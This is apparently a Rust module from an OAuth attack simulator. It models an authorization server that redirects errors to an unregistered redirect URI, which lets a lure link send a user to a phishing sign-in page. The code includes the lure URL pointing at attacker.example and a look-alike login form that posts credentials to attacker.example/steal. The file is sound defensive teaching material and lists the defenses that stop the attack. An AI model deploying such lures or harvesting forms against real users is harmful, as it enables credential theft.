//! `open-redirect-on-error`: an authorization request with a redirect URI the AS does
//! not accept; an AS that still redirects the error there becomes an open redirector
//! that sends Alice, from a URL on as.example, to the attacker's phishing page
//! (RFC 6749 §4.1.2.1, RFC 9700 §4.11.2).
//!
//! Alice opens only links to sites she trusts and types her password only on
//! as.example's pages or where as.example's own redirect took her (the browser's
//! person model), so the lure must be an as.example link, and only the AS's redirect
//! can bring her to the look-alike page.

use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::actors::{ActorId, Defenses, UserAction};
use crate::attacks::attacker::{Attacker, Kit, Loot, Moves, Playbook};
use crate::attacks::playbook_parts::has_alices_password;
use crate::attacks::setup::*;
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::requests::{AuthorizationRequest, ResponseType};
use crate::sim::Simulation;
use crate::sim::world::WorldBuilder;

pub struct OpenRedirectOnError;

/// How the lure reaches Alice.
const VIA: &str = "an e-mail from attacker.example";

static INFO: AttackInfo = AttackInfo {
    id: "open-redirect-on-error",
    title: "The AS as an open redirector on error",
    story: "Alice opens links only to as.example and Photo Printer, and types her password only on as.example's \
            pages — or where as.example itself sends her. Mallory e-mails Alice a link to as.example/authorize for \
            Photo Printer, with redirect_uri pointing at her own phishing page. The redirect URI is not registered, \
            so the request is invalid — but an AS that redirects errors anyway sends Alice from a trusted \
            as.example URL straight to a page that looks like the AS's sign-in form. Trusting as.example's \
            redirect, Alice types her password into it.",
    capabilities: &[Capability::WebAttacker],
    setup: "The attacker's site with a copy of the AS's sign-in page.",
    steps: &[
        "E-mail Alice a link to as.example/authorize?client_id=photo-printer&redirect_uri=https://attacker.example/signin",
        "Serve a look-alike sign-in form at /signin that posts to the attacker",
    ],
    goal: "the attacker's server receives Alice's password",
    stoppers: &[
        Stopper::alone(
            DefenseId::NoRedirectOnInvalidUri,
            "an invalid redirect URI gets an error page at the AS, never a redirect (RFC 6749 §4.1.2.1)",
        ),
        Stopper::alone(
            DefenseId::ParRequired,
            "the AS takes only authorization requests the client pushed itself; the URL the attacker wrote gets an error page, never a redirect (RFC 9126 §5)",
        ),
    ],
    references: "RFC 6749 §4.1.2.1; RFC 9700 §4.11.2",
};

/// The lure: an authorization request for Photo Printer at `as_issuer` whose redirect
/// URI is the look-alike page of the attacker's site at `site`.
pub fn lure(as_issuer: &str, site: &str) -> String {
    AuthorizationRequest::new(ResponseType::Code, wk::CLIENT_ID, &phishing_page(site))
        .scope("openid photos.read")
        .url(&format!("{as_issuer}/authorize"))
}

fn phishing_page(site: &str) -> String {
    format!("{site}/signin")
}

/// The attacker's one move: the e-mail with the lure.
struct Lure {
    as_issuer: String,
    site: String,
}

impl Playbook for Lure {
    fn on_input(&mut self, _kit: &mut Kit, ctx: &mut Moves<'_, '_>, name: &str, _value: &str) {
        if name != SEND_LINK {
            return;
        }
        let url = lure(&self.as_issuer, &self.site);
        ctx.note(format!(
            "Attacker: e-mails Alice a link to {}/authorize, a real {} address; its redirect_uri is {}, which Photo Printer never registered.",
            self.as_issuer,
            host_of(&self.as_issuer),
            phishing_page(&self.site)
        ));
        ctx.input(
            ActorId::new(wk::BROWSER),
            UserAction::LinkReceived {
                url,
                via: VIA.to_string(),
            },
            "",
        );
    }
}

/// The attacker's site at `site` (its origin), labelled `label`: a copy of the sign-in
/// page of the AS at `as_issuer` at `/signin`, whose form posts to the site's `/steal`.
pub fn attacker_site(label: &str, site: &str, as_issuer: &str) -> Attacker {
    let lure = Lure {
        as_issuer: as_issuer.to_string(),
        site: site.to_string(),
    };
    Attacker::new(ATTACKER, label, &[site], lure).with_page(
        "/signin",
        "Sign in",
        &format!(
            r#"<h1>{}</h1><p>Your session expired. Sign in again to continue.</p>
<form id="login" method="post" action="{site}/steal">
<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>"#,
            host_of(as_issuer)
        ),
    )
}

/// `as.example` of `https://as.example`.
fn host_of(url: &str) -> &str {
    url.split_once("://").map_or(url, |(_, h)| h)
}

/// The goal on what the attacker's server holds: Alice's password.
pub fn goal_of(loot: &Loot) -> Option<String> {
    has_alices_password(loot).then(|| "the attacker's server received Alice's password".to_string())
}

/// The instruction that makes the attacker send its e-mail.
const SEND_LINK: &str = "e-mails Alice a link";

impl Attack for OpenRedirectOnError {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut sim = WorldBuilder::standard(seed, defenses).build();
        let site = attacker_site(
            "Attacker (attacker.example)",
            ATTACKER_ORIGIN,
            wk::AS_ISSUER,
        );
        sim.add_actor(Box::new(site));
        sim.push_script(instruct(
            ATTACKER,
            SEND_LINK,
            "Mallory e-mails Alice: \"Your as.example session expired — sign in again.\"",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        goal_of(sim.actor::<Attacker>(ATTACKER)?.loot())
    }
}

pub static ATTACK: OpenRedirectOnError = OpenRedirectOnError;
